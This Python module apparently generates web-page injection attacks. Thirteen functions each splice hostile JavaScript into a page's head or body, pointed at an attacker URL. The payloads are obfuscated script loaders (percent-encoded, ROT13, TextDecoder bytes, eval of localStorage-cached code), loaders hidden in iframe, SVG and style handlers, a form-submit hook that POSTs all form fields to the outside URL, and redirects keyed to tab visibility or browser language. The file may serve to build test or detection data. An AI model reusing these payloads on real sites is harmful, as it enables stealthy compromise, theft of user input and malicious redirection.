"""Edition 6's injection styles of the `script` family. Each turns an attacker URL into edits of the
page. None is an edition 1-5 style: a loader deferred to an animation frame, a percent-encoded
loader run through decodeURIComponent, a static ``import`` in an inline module, an iframe with a
``javascript:`` URL, a redirect when the tab becomes visible again, code cached in localStorage
and evaluated, a hook on HTMLFormElement.prototype.submit that posts the fields, a ``nomodule``
legacy bundle, an SVG animation's ``onbegin`` handler, a <style> element's ``onload`` handler, a
redirect for browsers in a chosen language, a loader whose address is decoded from bytes by
TextDecoder, and a ROT13-encoded loader."""

# ruff: noqa: E501

from __future__ import annotations

import codecs
import random
from collections.abc import Callable

from ..attack import Page, insert
from ..splice import Edit

Style = Callable[[Page, str, random.Random], tuple[list[Edit], str]]
ENCODED = frozenset({"percent-encoded-decodeuri", "textdecoder-bytes-loader", "rot13-loader"})
TARGET = {"static-import-statement": "module"}  # styles that ask for a module path


def _add(page: Page, where: str, markup: str) -> tuple[list[Edit], str]:
    at = page.head_end() if where == "head" else page.body_end()
    return [insert(at, markup)], where


def _loader(url: str, rng: random.Random) -> str:
    v = rng.choice(("q", "z", "w", "j"))
    return f"var {v}=document.createElement('script');{v}.src='{url}';{v}.async=true;document.head.appendChild({v});"


def _raf(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _add(page, "body", f"<script>requestAnimationFrame(function(){{{_loader(url, rng)}}});</script>")


def _percent(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = "".join(f"%{b:02X}" for b in _loader(url, rng).encode())
    return _add(page, "body", f"<script>(0,eval)(decodeURIComponent('{code}'));</script>")


def _static_import(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _add(page, "head", f'<script type="module">import "{url}";</script>')


def _javascript_iframe(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = (
        _loader(url, rng)
        .replace("document.head", "parent.document.head")
        .replace("document.create", "parent.document.create")
    )
    return _add(
        page,
        "body",
        f'<iframe src="javascript:{code}void(0)" width="0" height="0" style="border:0"></iframe>',
    )


def _visibility(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    flag = f"vs{rng.getrandbits(12):03x}"
    return _add(
        page,
        "body",
        "<script>document.addEventListener('visibilitychange',function(){"
        f"if(document.visibilityState==='visible'&&!sessionStorage.{flag}){{sessionStorage.{flag}=1;"
        f"location.replace('{url}')}}}});</script>",
    )


def _local_storage(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    key = f"_c{rng.getrandbits(16):04x}"
    return _add(
        page,
        "head",
        f"<script>(function(k){{var c=localStorage.getItem(k);if(c){{(0,eval)(c)}}else{{fetch('{url}')"
        ".then(function(r){return r.text()}).then(function(t){localStorage.setItem(k,t);(0,eval)(t)})}})('"
        f"{key}');</script>",
    )


def _submit_hook(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _add(
        page,
        "body",
        "<script>(function(p){var o=p.submit;p.submit=function(){try{var d=new FormData(this),b=[];"
        "d.forEach(function(v,k){b.push(k+'='+encodeURIComponent(v))});"
        f"fetch('{url}',{{method:'POST',mode:'no-cors',body:b.join('&')}})}}catch(e){{}}return o.apply(this,arguments)}}}})"
        "(HTMLFormElement.prototype);</script>",
    )


def _nomodule(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    return _add(
        page,
        "head",
        f'<script nomodule defer src="{url}"></script><script type="module">/* modern */</script>',
    )


def _svg_onbegin(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = _loader(url, rng).replace("'", "&#39;")
    return _add(
        page,
        "body",
        f'<svg width="0" height="0"><animate attributeName="x" dur="1s" onbegin="{code}"/></svg>',
    )


def _style_onload(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    code = _loader(url, rng).replace("'", "&#39;")
    return _add(page, "head", f'<style onload="{code}">.x-{rng.getrandbits(12):03x}{{}}</style>')


def _language_redirect(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    lang = rng.choice(("zh", "ja", "ko", "vi", "id", "th"))
    return _add(
        page,
        "head",
        f"<script>if((navigator.language||'').toLowerCase().indexOf('{lang}')===0)"
        f"{{setTimeout(function(){{location.href='{url}'}},{rng.randint(800, 4000)})}}</script>",
    )


def _text_decoder(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    numbers = ",".join(str(b) for b in url.encode())
    v = rng.choice(("u", "g", "y"))
    return _add(
        page,
        "body",
        f"<script>(function(){{var {v}=new TextDecoder().decode(new Uint8Array([{numbers}]));"
        f"var s=document.createElement('script');s.src={v};document.body.appendChild(s)}})();</script>",
    )


def _rot13(page: Page, url: str, rng: random.Random) -> tuple[list[Edit], str]:
    hidden = codecs.encode(url, "rot13")
    return _add(
        page,
        "body",
        f"<script>(function(t){{var u=t.replace(/[a-z]/gi,function(c){{var b=c<='Z'?65:97;"
        "return String.fromCharCode((c.charCodeAt(0)-b+13)%26+b)});var s=document.createElement('script');"
        f"s.src=u;document.head.appendChild(s)}})('{hidden}');</script>",
    )


STYLES: dict[str, Style] = {
    "raf-deferred-loader": _raf,
    "percent-encoded-decodeuri": _percent,
    "static-import-statement": _static_import,
    "javascript-url-iframe": _javascript_iframe,
    "visibilitychange-redirect": _visibility,
    "localstorage-cached-eval": _local_storage,
    "form-submit-prototype-hook": _submit_hook,
    "nomodule-legacy-bundle": _nomodule,
    "svg-animate-onbegin": _svg_onbegin,
    "style-onload-attr": _style_onload,
    "browser-language-redirect": _language_redirect,
    "textdecoder-bytes-loader": _text_decoder,
    "rot13-loader": _rot13,
}
